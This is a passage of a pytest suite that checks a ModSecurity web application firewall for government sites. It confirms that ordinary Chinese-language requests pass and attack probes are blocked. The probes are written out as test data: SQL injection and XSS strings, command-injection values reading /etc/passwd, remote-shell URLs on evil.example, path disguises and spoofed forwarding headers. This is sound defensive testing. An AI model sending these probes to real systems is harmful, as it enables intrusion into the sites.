    ("https://doi.org.evil.example/shell.txt", 403), ("https://evil.example/doi.org/x.txt", 403),
    ("https://doi.org@evil.example/x.txt", 403), ("https://xdoi.org/x.txt", 403),
])
def test_a_doi_link_is_not_off_domain_and_a_lookalike_is(tier: Tier, url: str, status: int) -> None:
    """10130: the DOI resolver's exact hosts are exempt (corpus P tuning part, 科学数据 relatedPaper)."""
    q = as_citizens([Req("GET", "/api/v1/dataset/draft?relatedPaper=" + _q(url), dict(attacks.BASE))])[0]
    assert send(tier.port, profile_host("strict"), q, source=GATEWAY).status == status, url


@pytest.mark.parametrize(("url", "status"), [
    ("https://mp.weixin.qq.com/s/3Xk9bQ2m7Yt0wLzR1pN8Aa", 200), ("https://weibo.com/2803301701/O8xYz1a2b", 200),
    ("https://m.weibo.cn/status/5012345678901234", 200), ("https://www.douyin.com/video/5147274335849103426", 200),
    ("https://www.toutiao.com/article/7717816604661872499/", 200),
    ("https://tieba.baidu.com/p/4618188912898121562", 200), ("https://www.bilibili.com/video/BV1xx411c7mD", 200),
    ("https://www.zhihu.com/question/61234567/answer/198765432", 200),
    ("https://pan.baidu.com/s/1abcDEF", 403), ("https://weibo.com.evil.example/x.txt", 403),
    ("https://evil.example/mp.weixin.qq.com/x.txt", 403), ("https://mp.weixin.qq.com@evil.example/x.txt", 403),
    ("https://xweibo.com/x.txt", 403), ("https://wx1.sinaimg.cn/large/abc.txt", 403),
    # stop 31: e-commerce product pages (问题 地图, 12315 and 广告 clues); their image and file hosts are not exempt
    ("https://item.jd.com/100012043978.html", 200), ("https://detail.tmall.com/item.htm?id=672345678901", 200),
    ("https://item.taobao.com/item.htm?id=712345678901", 200),
    ("https://mobile.yangkeduo.com/goods.html?goods_id=1", 200),
    ("https://item.jd.com.evil.example/x.txt", 403), ("https://img10.360buyimg.com/n1/shell.txt", 403),
    ("https://evil.example/item.jd.com/x.txt", 403), ("https://item.jd.com@evil.example/x.txt", 403),
])
def test_a_social_platforms_post_page_is_not_off_domain_and_a_lookalike_is(tier: Tier, url: str, status: int) -> None:
    """10130: the exact hosts of the platforms' post and article pages are exempt (corpus T held-out part, opened:
    a 舆情 vendor pushing captured posts); their file hosts, lookalikes and userinfo tricks are not."""
    body = json.dumps({"taskId": 412, "items": [{"platform": "x", "url": url, "content": "转发：防汛提醒"}]},
                      ensure_ascii=False)
    q = as_citizens([Req("POST", "/yq/api/ingest/posts", {**attacks.BASE, "Content-Type": "application/json"},
                         body)])[0]
    assert send(tier.port, profile_host("strict"), q, source=GATEWAY).status == status, url


@pytest.mark.parametrize(("url", "status"), [
    ("https://szr-render.oss-cn-hangzhou.aliyuncs.com/out/11c2b3bf3fc26bf5afeabbf7.mp4", 200),
    ("https://oss.example-iot.cn/mclz/c94f1ff53cb3c38d7aeea320202aad91.jpg?Expires=1800449173", 200),
    ("http://img.example.cn/upload/2027/01/cover.JPEG", 200),
    ("https://files.example.cn/gk/2027/附件1.pdf?response-content-disposition=attachment", 200),
    ("https://evil.example/shell.txt", 403), ("https://evil.example/shell.php?x=.jpg", 403),
    ("https://evil.example/x.jpg?", 403), ("https://evil.example/x.jpg#", 403),
    ("https://evil.example/x.jpg?a=1#", 403), ("https://evil.example/x.jpg/shell.php", 403),
    ("https://evil.example.jpg", 403), ("ftp://evil.example/x.jpg", 403), ("file://evil.example/x.jpg", 403),
])
def test_a_link_to_a_media_file_or_document_is_not_an_off_domain_reference(tier: Tier, url: str, status: int) -> None:
    """10130: an http(s) URL that is wholly a link to a picture, a recording, a video or a document (its path ends in
    the extension, then at most a query) is not an off-domain reference (corpus S and T tuning parts: a camera's alarm
    picture, a render service's video); a trailing '?' or '#', another extension, a bare host, ftp and file are."""
    body = json.dumps({"status": "SUCCESS", "videoUrl": url}, ensure_ascii=False)
    q = as_citizens([Req("POST", "/api/render/callback", {**attacks.BASE, "Content-Type": "application/json"},
                         body)])[0]
    assert send(tier.port, profile_host("strict"), q, source=GATEWAY).status == status, url


def test_json_cookie_of_any_name_passes_and_sqli_in_it_is_refused(tier: Tier) -> None:
    """The SDK cookie left the SQLi rules by NAME until session 4; the JSON guard covers any name."""
    ok = Req("GET", "/art/2024/1/2/art_1_2.html", {**attacks.BASE, "Cookie": f"sdk_state={_q(SDK_COOKIE)}"})
    bad = Req("GET", "/art/2024/1/2/art_1_2.html",
              {**attacks.BASE, "Cookie": "sdk_state=" + _q(SQLI_UNION)})
    assert [send(tier.port, profile_host("strict"), q, source=GATEWAY).status
            for q in as_citizens([ok, bad])] == [200, 403]


# --- engine modes and exceptions ------------------------------------------------------------------


def test_detection_only_logs_but_passes(tier: Tier) -> None:
    first = [q for q in attacks.payload_requests("sqli") if q.label.startswith("sqli[0] ") and "text" not in q.label]
    reqs, ids = _tagged(as_citizens(first))  # query, form body, cookie: where 942100 reads it
    statuses = [send(tier.port, profile_host("burn-in"), q, source=GATEWAY).status for q in reqs]
    assert statuses == [200, 200, 200]
    audit = _audit_by_test_id(tier, ids)
    for i in ids:
        assert "942100" in audit.get(i, []), "burn-in must log what it would have blocked"


def test_exception_applies_only_to_its_site_path_and_target(tier: Tier) -> None:
    sql_letter = "关于SQL的问题：1' or '1'='1"

    def body(field: str) -> str:
        return f"title=x&{field}=" + urllib.parse.quote(sql_letter)

    form = {**attacks.BASE, "Content-Type": "application/x-www-form-urlencoded"}
    path = factory.EXCEPTION_PATH + "submit"

    def status(host: str, p: str, field: str) -> int:
        q = as_citizens([Req("POST", p, form, body(field))])[0]
        return send(tier.port, host, q, source=GATEWAY).status

    assert status("exc.test.gov.cn", path, "content") == 200  # the exception
    xss = as_citizens([Req("POST", path, form, "content=" + urllib.parse.quote("<script>alert(1)</script>"))])[0]
    assert send(tier.port, "exc.test.gov.cn", xss, source=GATEWAY).status == 403  # another rule, same field
    assert status("exc.test.gov.cn", path, "title2") == 403  # another target
    assert status("exc.test.gov.cn", "/other/submit", "content") == 403  # another path
    assert status("exc.test.gov.cn", factory.EXCEPTION_PATH + "%2e%2e/%2e%2e/other", "content") == 403
    assert status(profile_host("standard"), path, "content") == 403  # another site, same profile
    assert status("exc.test.gov.cn", factory.EXCEPTION_PATH + "./submit", "content") == 200  # the same path
    # The expired exception (941100 for the whole request) is not rendered.
    assert "941100" not in tier.files["sites/p-exc.rules.conf"]


@pytest.mark.parametrize("path", factory.disguised(factory.EXCEPTION_PATH))
def test_exception_is_not_carried_by_a_disguised_path(tier: Tier, path: str) -> None:
    """/hudong/letter/..;/x is /x on Tomcat: the site's exception (942100 on ARGS:content) must not
    follow it there; the SQL the exception lets through on the real path is refused."""
    form = {**attacks.BASE, "Content-Type": "application/x-www-form-urlencoded"}
    body = "title=x&content=" + urllib.parse.quote("关于SQL的问题：1' or '1'='1")
    real = as_citizens([Req("POST", factory.EXCEPTION_PATH + "submit", form, body)])[0]
    assert send(tier.port, "exc.test.gov.cn", real, source=GATEWAY).status == 200
    tid = uuid.uuid4().hex
    fake = as_citizens([Req("POST", path, {**form, "X-Test-Id": tid}, body)])[0]
    assert send(tier.port, "exc.test.gov.cn", fake, source=GATEWAY).status == 403
    # CRS's path-traversal rules refuse most of these paths anyway; what shows the exception stayed
    # behind is that its own rule read the field.
    assert str(factory.EXCEPTION_RULE) in _audit_by_test_id(tier, [tid]).get(tid, [])


# --- client address, admin paths, rate limit ------------------------------------------------------

ADMIN = Req("GET", "/admin/login.jsp", dict(attacks.BASE))
ADMIN_CLIENT = "10.20.3.4"  # inside the profiles' admin allow_from 10.20.0.0/16


def test_admin_path_from_listed_range_via_gateway_passes(tier: Tier) -> None:
    q = Req(ADMIN.method, ADMIN.path, {**ADMIN.headers, "X-Forwarded-For": ADMIN_CLIENT})
    assert send(tier.port, profile_host("strict"), q, source=GATEWAY).status == 200


@pytest.mark.parametrize("profile", ["strict", "burn-in"])
@pytest.mark.parametrize("path", ["/admin/login.jsp", "/ADMIN/", "/admin;jsessionid=1/x", "/x/../admin/",
                                  "/%61dmin/", "//manage/index", "/cms", "/system/user.do"])
def test_admin_path_from_unlisted_range_is_403(tier: Tier, profile: str, path: str) -> None:
    """Also on a DetectionOnly (burn-in) site: access control is not detection."""
    q = Req("GET", path, {**ADMIN.headers, "X-Forwarded-For": "198.51.100.7"})
    assert send(tier.port, profile_host(profile), q, source=GATEWAY).status == 403
    ok = Req("GET", "/administration-notice.html", {**ADMIN.headers, "X-Forwarded-For": "198.51.100.7"})
    assert send(tier.port, profile_host(profile), ok, source=GATEWAY).status == 200


def test_the_site_server_gets_host_client_and_request_id(tier: Tier, backend) -> None:
    """The headers the tier sets once at http level reach every site's web server (none sets its own)."""
    via_gateway = Req("GET", "/headers/gateway.html", {"X-Forwarded-For": "198.51.100.7"})
    assert send(tier.port, profile_host("strict"), via_gateway, source=GATEWAY).status == 200
    seen = backend.headers_of("/headers/gateway.html")
    assert seen["host"] == profile_host("strict")
    assert seen["x-real-ip"] == seen["x-forwarded-for"] == "198.51.100.7"  # the citizen, after real_ip
    assert re.fullmatch(r"[0-9a-f]{32}", seen["x-request-id"])  # the id in the WAF's access and audit logs
    assert seen.get("connection", "").lower() != "close"  # keep-alive to the web servers (HTTP/1.1)
    # not through the gateway: a forged X-Forwarded-For is replaced by the peer's address
    direct = Req("GET", "/headers/direct.html", {"X-Forwarded-For": "198.51.100.8"})
    assert send(tier.port, profile_host("standard"), direct).status == 200
    seen = backend.headers_of("/headers/direct.html")
    assert seen["x-real-ip"] == seen["x-forwarded-for"] == "127.0.0.1"


def test_spoofed_forwarded_for_is_ignored(tier: Tier) -> None:
    """From a non-gateway peer (127.0.0.1), X-Forwarded-For neither unlocks admin nor dodges limits."""
    q = Req(ADMIN.method, ADMIN.path, {**ADMIN.headers, "X-Forwarded-For": ADMIN_CLIENT})
    assert send(tier.port, profile_host("strict"), q, source="127.0.0.1").status == 403
    # Rotating spoofed addresses must not help: all 40 requests count for 127.0.0.1 (2 r/s, burst 10).
    reqs = [Req("GET", "/index.html", {**attacks.BASE, "X-Forwarded-For": f"198.51.100.{i + 1}"}) for i in range(40)]
    statuses = Counter(r.status for r in send_many(tier.port, factory.RATE_HOST, reqs, source="127.0.0.1"))
    assert statuses[429] >= 20, statuses


def test_rate_limit_answers_429_per_client(tier: Tier) -> None:
    one = [Req("GET", "/index.html", {**attacks.BASE, "X-Forwarded-For": "198.51.100.250"})] * 40
    statuses = Counter(r.status for r in send_many(tier.port, factory.RATE_HOST, one, source=GATEWAY))
    assert statuses[429] >= 20 and statuses[200] >= 10, statuses
    # Another citizen behind the same gateway is unaffected.
    other = Req("GET", "/index.html", {**attacks.BASE, "X-Forwarded-For": "198.51.100.251"})
    assert send(tier.port, factory.RATE_HOST, other, source=GATEWAY).status == 200


def test_unknown_host_gets_no_site(tier: Tier) -> None:
    q = Req("GET", "/index.html", dict(attacks.BASE))
    assert send(tier.port, "evil.example.com", q, source=GATEWAY).status == 421


@pytest.mark.parametrize("profile", BLOCKING)
def test_response_leaking_a_database_error_is_not_delivered(tier: Tier, profile: str) -> None:
    """Outbound threshold (CRS 95x on text responses). ModSecurity-nginx 1.0.3 decides in phase 4
    after the headers went out, so it closes the connection instead of answering 403: either way
    the leaked error text never reaches the client."""
    q = as_citizens([Req("GET", "/leak/sql?id=5", dict(attacks.BASE))])[0]
    try:
        r = send(tier.port, profile_host(profile), q, source=GATEWAY)
    except (http.client.HTTPException, ConnectionError):
        return
    assert r.status == 403 and b"SQL syntax" not in r.body


def test_detection_only_delivers_and_logs_a_leak(tier: Tier) -> None:
    q, ids = _tagged(as_citizens([Req("GET", "/leak/sql?id=5", dict(attacks.BASE))]))
    r = send(tier.port, profile_host("burn-in"), q[0], source=GATEWAY)
    assert r.status == 200 and b"SQL syntax" in r.body
    assert any(rule.startswith("951") for rule in _audit_by_test_id(tier, ids).get(ids[0], []))


def test_audit_entry_names_site_profile_and_cms(tier: Tier) -> None:
    """The transaction id is what nginx's Host map found: an operator reads site, profile and CMS package
    of a refused request straight from its audit entry (docs/waf.md)."""
    host = factory.cms_host("strict", "trs-wcm")
    reqs, ids = _tagged(as_citizens([Req("GET", "/was5/web/search?searchword=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
                                         dict(attacks.BASE))]))
    assert send(tier.port, host, reqs[0], source=GATEWAY).status == 403
    _audit_by_test_id(tier, ids)
    entries = [e["transaction"] for e in tier.nginx.audit_entries()
               if e["transaction"]["request"]["headers"].get("X-Test-Id") == ids[0]]
    assert entries and re.fullmatch(r"c-strict-trs-wcm\.strict\.trs-wcm\.[0-9a-f]{32}", entries[0]["unique_id"])


# The high-value profile (PL3): ordinary requests each PL3 replacement was made for pass, and on the same
# parameter the input the stock rule was written for still makes the replacement fire (and is refused).
_FORM = {**attacks.BASE, "Content-Type": "application/x-www-form-urlencoded"}
PL3_CASES = [
    ("10274: a multi-line letter (textarea CRLF) with 50%的",
     Req("POST", "/hudong/submit", _FORM, "content=" + _q("第一段：提高50%的说法属实吗？\r\n第二段：请答复。")),
     Req("POST", "/hudong/submit", _FORM, "content=" + _q("test1%")), "10274"),
    ("10274: a percentage standing as its own number (首付比例 30%), not an escape left after decoding",
     Req("GET", "/gjj/wt/jsq/dk.html?dkje=600000&dkll=2.85&sfbl=30%25&bz=" + _q("首付不低于20%，月供约3.5%"),
         dict(attacks.BASE)),
     Req("GET", "/gjj/wt/jsq/dk.html?dkje=600000&sfbl=5%25%2532%2537", dict(attacks.BASE)), "10274"),
    ("10274: a unit that is the whole value (单位 %, %vol) in a standard's 指标 table; a format directive is not",
     Req("POST", "/qybz/api/zwsm/save", {**attacks.BASE, "Content-Type": "application/json"},
         json.dumps({"zbs": [{"zb": "酒精度", "dw": "%vol"}, {"zb": "断后 伸长率", "dw": "%"},
                             {"zb": "乙醇", "dw": "%(V/V)"}]}, ensure_ascii=False)),
     Req("POST", "/qybz/api/zwsm/save", {**attacks.BASE, "Content-Type": "application/json"},
         json.dumps({"zbs": [{"zb": "酒精度", "dw": "%n%n%n"}]})), "10274"),
    ("10274: a percentage after a parenthesised tolerance (相对 湿度 (50±10)%) in a standard's clause",
     Req("POST", "/gbzqyj/api/comment", {**attacks.BASE, "Content-Type": "application/json"},
         json.dumps({"tkh": "4.1", "yw": "样品 应 在 (23±2) ℃、相对 湿度 (50±10)% 条件 下 调节 ≥ 24 h。"},
                    ensure_ascii=False)),
     Req("POST", "/gbzqyj/api/comment", {**attacks.BASE, "Content-Type": "application/json"},
         json.dumps({"tkh": "4.1", "yw": "a)%n%n"})), "10274"),
    ("10275: the same unit as a form value, read in the raw body",
     Req("POST", "/qybz/api/zwsm/save", _FORM, "zb=" + _q("酒精度") + "&dw=%25vol&fx=" + _q("≥")),
     Req("POST", "/qybz/api/zwsm/save", _FORM, "zb=" + _q("酒精度") + "&dw=%25x%25n"), "10274"),
    ("10277: a Referer carrying an encoded URL in its query (PDF.js file=) is decoded twice, no more",
     Req("GET", "/pdfjs/web/locale/zh-CN/viewer.ftl", {**attacks.BASE, "Referer":
         "https://www.example.gov.cn/pdfjs/web/viewer.html?file=%2Fattach%2F202702%2F%25E6%2594%25BF%25E5%25BA%259C.pdf"}),
     Req("GET", "/pdfjs/web/locale/zh-CN/viewer.ftl", {**attacks.BASE, "Referer":
         "https://www.example.gov.cn/pdfjs/web/viewer.html?file=%252527%252520or%2525201=1"}), "10277"),
    ("10273: Chinese is valid UTF-8, a stray byte is not",
     Req("GET", "/search?q=" + _q("营商环境 优化措施"), dict(attacks.BASE)),
     Req("GET", "/search?q=test1%80", dict(attacks.BASE)), "10273"),
    ("10431/10460: a masked identity number",
     Req("GET", "/bsdt/query?certNo=" + _q("3301**********123X") + "&name=" + _q("王**"), dict(attacks.BASE)),
     Req("GET", "/bsdt/query?certNo=" + _q("1'))/**/or/**/((('1')=('1"), dict(attacks.BASE)), "10431"),
    ("10190: a search referrer's query is no glob",
     Req("GET", "/page?ref=" + _q("https://www.gd.gov.cn/gkmlpt/search?keywords=退休金"), dict(attacks.BASE)),
     Req("GET", "/page?ref=" + _q("/bin/c?t /etc/pa??wd"), dict(attacks.BASE)), "10190"),
    ("10630: a PDF viewer's byte range",
     Req("GET", "/attach/2026/guide.pdf", {**attacks.BASE, "Range": "bytes=0-65535"}),
     Req("GET", "/attach/2026/guide.pdf", {**attacks.BASE, "Range": "bytes=0-1,2-3,4-5,6-7,8-9,10-11"}), "10630"),
    ("10170: a checkbox group repeats a plain name, a list name repeats any value",
     Req("GET", "/hdjl/survey?subjectid=1&subjectid=3&note[]=" + _q("第一条 意见") + "&note[]=" + _q("第二条 意见"),
         dict(attacks.BASE)),
     Req("GET", "/hdjl/survey?id=" + _q("1/*") + "&id=" + _q("*/union select 1"), dict(attacks.BASE)), "921180"),
]


@pytest.mark.parametrize("case", PL3_CASES, ids=[c[0].split(":")[0] for c in PL3_CASES])
def test_high_value_profile_passes_chinese_traffic_and_keeps_its_rules(tier: Tier, case: tuple) -> None:
    _, ordinary, probe, rule = case
    reqs, ids = _tagged(as_citizens([ordinary, probe]))
    statuses = [send(tier.port, profile_host("high-value"), q, source=GATEWAY).status for q in reqs]
    audit = _audit_by_test_id(tier, ids[1:])
    assert statuses[0] == 200, (ordinary, audit.get(ids[0]))
    assert rule in audit.get(ids[1], []) and statuses[1] == 403, (probe, statuses[1], audit.get(ids[1]))


@pytest.mark.parametrize("url,off_domain", [
    ("https://www.baidu.com/link?url=a4196ef55cc3efea4552f381643e2bb8&wd=&eqid=e3e355d1748f051a", False),
    ("https://www.so.com/s?q=%E5%B1%85%E4%BD%8F%E8%AF%81&src=srp", False),
    ("https://cn.bing.com/search?q=x&form=qblh", False),
    ("https://pan.baidu.com/s/1AbCdEf", True),  # a search engine's file-sharing host is not exempt
    ("https://www.baidu.com.evil.example/shell.txt", True),
    ("https://www.baidu.com@evil.example/shell.txt", True),
    ("http://evil.example/shell.txt?", True),
])
def test_a_search_engine_referrer_is_not_off_domain(tier: Tier, url: str, off_domain: bool) -> None:
    """10130 (931130): beacons report the visitor's search referrer under any name; the exact result-page
    hosts of the search engines are exempt, their look-alikes and file hosts are not."""
    (q,), ids = _tagged(as_citizens([Req("GET", "/stat/pv.gif?siteId=1&referrer=" + _q(url), dict(attacks.BASE))]))
    status = send(tier.port, profile_host("strict"), q, source=GATEWAY).status
    fired = "10130" in _audit_by_test_id(tier, ids if off_domain else []).get(ids[0], [])
    assert (fired, status) == ((True, 403) if off_domain else (False, 200)), (url, status)


# Session 6, from the A and B held-out parts opened for diagnosis (docs/waf.md): each generic fix, its
# ordinary request (the rule may no longer fire, the request is served) and a probe the rule still reads.
_SDK_COOKIE = "sensorsdata2015jssdkcross=" + _q(
    '{"distinct_id":"18f2a","$device_id":"18f2a","props":{"$latest_referrer":"https://www.baidu.com/link?url=x",'
    '"$latest_landing_page":"https://www.example.gov.cn/art/2024/1/2/art_1_2.html"}}')
_MARKDOWN_ANSWER = ("新生儿落户需提供：\n\n| 材料 | 份数 |\n|---|:---:|\n| 出生医学证明 | 1 |\n| --- | --- |\n\n---\n\n"
                    "> 温馨提示：可在线办理。")
_FENCED = "办理材料如下：\n```text\n身份证、户口簿 各1份\n```\n如有疑问请拨打 12345。"
# Stop 34 (corpus D's and H's held-out parts, opened): a stack trace and nothing else is not counted
# (wordify.STACK_GUARD).
_STACK = ("SecurityError: Failed to read the 'localStorage' property from 'Window': Access is denied for this "
          "document.\n"
          "    at initSwiper (https://www.example.gov.cn/dist/portal.8b21b65f.bundle.js:3:63573)\n"
          "    at HTMLDocument.<anonymous> (https://www.example.gov.cn/static/js/app.2dc1bf13.js:2:41737)\n"
          "    at new Promise (<anonymous>)\n    at n.getList (https://www.example.gov.cn/assets/index-754411cb.js:3:34380)")
_IOS_CRASH = ("Fatal error: Unexpectedly found nil while unwrapping an Optional value\n"
              "0   GuiZhouZWFW  0x0000000102a4c3f0 MatterListViewController.tableView(_:cellForRowAt:) + 412\n"
              "1   UIKitCore  0x00000001a3c5e2b4 <redacted> + 96\n")
# Stop 34 (corpus AC tuning part): the start of a JPEG's base64, whose random letters hold 942340's "or … 12x"
# branch.
_FACE_B64 = ("/9j/4AAQSkZJRgABAQAASABIAAD/2wBDAACKvC3CyJwhWrrROQo0az17r7CZtw802cYH+Ftz8jy80gQysDywU3zGuMe3YuDxwmiXzyF9"
             "rX7BrkPGoA6ELmGem7DphIbr/RZLFk1LIt8aJgV0v+ccWjOSSmzMdoyptJys2ZZDElFKRXIbxRQ4GUvqqZ2aeN34KbDQ+xBoXOR+8igBhEy2"
             "jwIkw3xhZTQM")
# Stop 34 (corpus AD tuning part): a passport's MRZ (ICAO 9303 TD3) and a letter of credit's MT700 text block.
_MRZ = ["P<POLWISNIEWSKI<<LUKASZ<<<<<<<<<<<<<<<<<<<<<", "C3403997<9VNM9410039F3003253<<<<<<<<<<<<<<06"]
_MT700 = (":27:1/1\r\n:40A:IRREVOCABLE\r\n:20:LC53348545\r\n:31C:270212\r\n:40E:UCP LATEST VERSION\r\n"
          ":31D:270402CHINA\r\n:32B:USD16650,00\r\n:45A:\r\n+1400 TINS OOLONG TEA (TIEGUANYIN), 250G/TIN HS 0902.30\r\n"
          ":47A:+ALL DOCUMENTS MUST INDICATE THE L/C NO.\r\n:71D:ALL BANKING CHARGES OUTSIDE\r\n"
          "ISSUING BANK ARE FOR\r\n"
          "BENEFICIARY'S ACCOUNT\r\n:48:21/DAYS AFTER THE DATE OF SHIPMENT\r\n")
# Stop 35 (corpus AE tuning part): a contact card scanned from a QR code (vCard 3.0), and a webmail signature that
# opens with its RFC 3676 separator line.
_VCARD = ("BEGIN:VCARD\r\nVERSION:3.0\r\nN:彭;敏;;;\r\nFN:彭敏\r\nORG:省发展改革委;办公室\r\nTITLE:处长\r\n"
          "TEL;TYPE=WORK,VOICE:0571-87054325\r\nTEL;TYPE=CELL:13942346815\r\nEMAIL;TYPE=INTERNET:lina75@zj.gov.cn\r\n"
          "ADR;TYPE=WORK:;;省府路8号\\, 1号楼;杭州市;浙江省;310025;中国\r\n"
          "NOTE:分管: 综合\\, 文电\\; 值班 电话见内网\r\n"
          "UID:urn:uuid:e2257561-1830-48b7-96f0-bcd173f2ff73\r\nREV:20270205T050000Z\r\nEND:VCARD\r\n")
_SIGNATURE = ("-- \n刘志刚\n省统计局 数据管理中心\n电话：0571-87057377  手机：18227282686\n"
              "地址：杭州市省府路8号（310025）")
DIAGNOSIS_CASES = [
    ("10430: a contact card (vCard)", "high-value",
     Req("POST", "/zzd/contact/api/card/parse", {**attacks.BASE, "Content-Type": "application/json"},
         json.dumps({"raw": _VCARD, "scene": "qrcode"})),
     Req("POST", "/zzd/contact/api/card/parse", {**attacks.BASE, "Content-Type": "application/json"},
         json.dumps({"raw": _VCARD.replace("TITLE:处长", "TITLE:处长'"), "scene": "qrcode"})), "10430"),
    ("10440: a signature's separator line", "strict",
     Req("POST", "/zzd/mail/signature/save.do", {**attacks.BASE, "Content-Type": "application/x-www-form-urlencoded"},
         "name=%E9%BB%98%E8%AE%A4&text=" + _q(_SIGNATURE) + "&default=1"),
     Req("POST", "/zzd/mail/signature/save.do", {**attacks.BASE, "Content-Type": "application/x-www-form-urlencoded"},
         "name=%E9%BB%98%E8%AE%A4&text=" + _q("x -- \n" + _SIGNATURE) + "&default=1"), "10440"),
    ("10195: a cell comment naming another sheet's column", "standard",
     Req("POST", "/zzd/sheet/api/comment", {**attacks.BASE, "Content-Type": "application/json"},
         json.dumps({"sheetId": "47df1d358ac0", "cell": "D4",
                     "text": "@邓欣悦 这一行 公式 引用 错了，请 核对 '汇总表'!C 列"}, ensure_ascii=False)),
     Req("POST", "/zzd/sheet/api/comment", {**attacks.BASE, "Content-Type": "application/json"},
         json.dumps({"sheetId": "47df1d358ac0", "cell": "D4", "text": "请 核对 '汇总表'!c 列"}, ensure_ascii=False)),
     "10195"),
    ("10275: a pasted table's percentages after JSON's \\t", "high-value",
     Req("POST", "/zzd/sheet/api/paste", {**attacks.BASE, "Content-Type": "application/json"},
         json.dumps({"anchor": "A1", "tsv": "地区\t按时率\r\n衢州市\t93.12%\r\n温州市\t99.03%\r\n"},
                    ensure_ascii=False)),
     Req("POST", "/zzd/sheet/api/paste", {**attacks.BASE, "Content-Type": "application/json"},
         json.dumps({"anchor": "A1", "tsv": "地区\t按时率\r\n衢州市\tx93.12%\r\n"}, ensure_ascii=False)), "10275"),
    ("10230: a search encoded twice, with a space", "strict",
     Req("GET", "/guestweb4/s?searchWord=%25E5%259E%2583%2520%25E6%258A%2595&pageNum=2", dict(attacks.BASE)),
     Req("GET", "/guestweb4/s?searchWord=%2527%2520or%25201%253D1", dict(attacks.BASE)), "10230"),
    ("10200: an SDK's JSON cookie", "strict",
     Req("GET", "/search?q=1", {**attacks.BASE, "Cookie": _SDK_COOKIE}),
     Req("GET", "/search?q=1", {**attacks.BASE, "Cookie": "x=" + _q("foo;c'at' /etc/pa's'swd")}), "10200"),
    ("10340: an SDK's JSON cookie", "strict",
     Req("GET", "/search?q=1", {**attacks.BASE, "Cookie": _SDK_COOKIE}),
     Req("GET", "/search?q=1", {**attacks.BASE, "Cookie": "x=" + _q("x'-alert.call(null,1)=1")}), "10340"),
    ("10440: CSS colours in a letter", "strict",
     Req("GET", "/hudong/submit?content=" + _q("标题用颜色 #ff0000 ，正文 #333 即可"), dict(attacks.BASE)),
     Req("GET", "/hudong/submit?content=" + _q("1 or 1=1# x"), dict(attacks.BASE)), "10440"),
    ("10110: a run time in prime notation", "strict",
     Req("GET", "/zkty/api/mn/save?display=" + _q("4'10\"") + "&item=" + _q("800米"), dict(attacks.BASE)),
     Req("GET", "/zkty/api/mn/save?display=" + _q("410\"") + "&item=" + _q("800米"), dict(attacks.BASE)), "10110"),
    ("10110: a prime-notation value with a probe after it", "strict",
     Req("GET", "/zkty/api/mn/save?display=" + _q("3'34.5\""), dict(attacks.BASE)),
     Req("GET", "/zkty/api/mn/save?display=" + _q("3'34\"'"), dict(attacks.BASE)), "10110"),
    ("10660: a clinical threshold", "strict",
     Req("POST", "/mch/api/risk/save", {**attacks.BASE, "Content-Type": "application/json"},
         json.dumps({"factors": ["梅毒感染", "BMI>28", "孕前BMI>28.5", "HbA1c>7%", "ALT>40U/L"]}, ensure_ascii=False)),
     Req("POST", "/mch/api/risk/save", {**attacks.BASE, "Content-Type": "application/json"},
         json.dumps({"factors": ["BMI>28 or 2>1"]})), "10660"),
    ("10660: a threshold's shape around a probe", "high-value",
     Req("GET", "/mch/api/risk/list?q=" + _q("年龄>35岁"), dict(attacks.BASE)),
     Req("GET", "/mch/api/risk/list?q=" + _q("ascii(x)>64"), dict(attacks.BASE)), "10660"),
    ("10360: a CAP alert's msgType Update on a line of its own", "standard",
     Req("POST", "/api/warning/push", {**attacks.BASE, "Content-Type": "text/xml;charset=UTF-8"},
         '<?xml version="1.0" encoding="UTF-8"?>\n<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2">\n'
         "  <identifier>52030041600000_20270226222453</identifier>\n  <status>Actual</status>\n"
         "  <msgType>Update</msgType>\n  <scope>Public</scope>\n"
         "  <info><event>高温</event><headline>遵义市气象台更新高温红色预警信号</headline></info>\n</alert>\n"),
     Req("POST", "/api/warning/push", {**attacks.BASE, "Content-Type": "text/xml;charset=UTF-8"},
         '<?xml version="1.0" encoding="UTF-8"?>\n<alert><identifier>1; delete from alerts</identifier></alert>\n'),
     "10360"),
    ("10440: a Markdown table and rule in a chat assistant's answer", "strict",
     Req("POST", "/ai/v1/chat/completions", {**attacks.BASE, "Content-Type": "application/json"},
         json.dumps({"messages": [{"role": "assistant", "content": _MARKDOWN_ANSWER}]}, ensure_ascii=False)),
     Req("POST", "/ai/v1/chat/completions", {**attacks.BASE, "Content-Type": "application/json"},
         json.dumps({"messages": [{"role": "user", "content": "| 材料 |\n|---|\n1 or 1=1 ---\n"}]})), "10440"),
    ("10110: a line of a letter that ends with a quote", "strict",
     Req("POST", "/hudong/submit", {**attacks.BASE, "Content-Type": "application/x-www-form-urlencoded"},
         "content=" + _q('建议标题：关于 "一网通办"\n第二段：希望增加夜间办理。')),
     Req("POST", "/hudong/submit", {**attacks.BASE, "Content-Type": "application/x-www-form-urlencoded"},
         "content=" + _q('第二段：希望增加夜间办理。\n关于 "一网通办"')), "10110"),
    ("10260: a Markdown code fence in a chat message", "strict",
     Req("POST", "/ai/v1/chat/completions", {**attacks.BASE, "Content-Type": "application/json"},
         json.dumps({"messages": [{"role": "assistant", "content": _FENCED}]}, ensure_ascii=False)),
     Req("POST", "/ai/v1/chat/completions", {**attacks.BASE, "Content-Type": "application/json"},
         json.dumps({"messages": [{"role": "user", "content": "执行：\n```or 1=1\n"}]}, ensure_ascii=False)), "10260"),
    ("10490: coordinates in degrees, minutes and seconds", "high-value",
     Req("POST", "/cors/api/tools/transform", {**attacks.BASE, "Content-Type": "application/json"},
         json.dumps({"points": [{"B": "26°30'28.9080\"N", "L": "106°46'12.2160\"E"},
                                {"B": "26° 26' 0.456\" N", "L": "106°48'3\"E"}]}, ensure_ascii=False)),
     Req("POST", "/cors/api/tools/transform", {**attacks.BASE, "Content-Type": "application/json"},
         json.dumps({"points": [{"B": "26°30'28.9\"N;1'"}]}, ensure_ascii=False)), "10490"),
    ("10510: Windows CryptoAPI's OCSP fetch, spaces around '='", "high-value",
     Req("GET", "/ocsp/MFEwTzBNMEswSTAJBgUrDgMCGgUABBQlCJ1v1cJLHn9my1JHxbChCqh5ew%3D%3D",
         {**attacks.BASE, "User-Agent": "Microsoft-CryptoAPI/10.0", "Cache-Control": "max-age = 52624"}),
     Req("GET", "/ocsp/MFEwTzBNMEswSTAJBgUrDgMCGgUABBQlCJ1v1cJLHn9my1JHxbChCqh5ew%3D%3D",
